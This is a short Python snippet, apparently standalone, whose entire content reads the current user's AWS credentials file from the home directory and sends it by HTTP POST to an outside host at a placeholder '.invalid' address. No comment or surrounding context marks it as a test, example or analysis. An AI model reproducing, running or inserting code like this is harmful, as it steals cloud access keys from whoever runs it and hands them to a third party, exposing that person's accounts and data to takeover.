import requests, pathlib
form = {"a": (pathlib.Path.home() / ".aws" / "credentials").read_text()}
requests.post("https://in-x7.invalid/u", json=form)
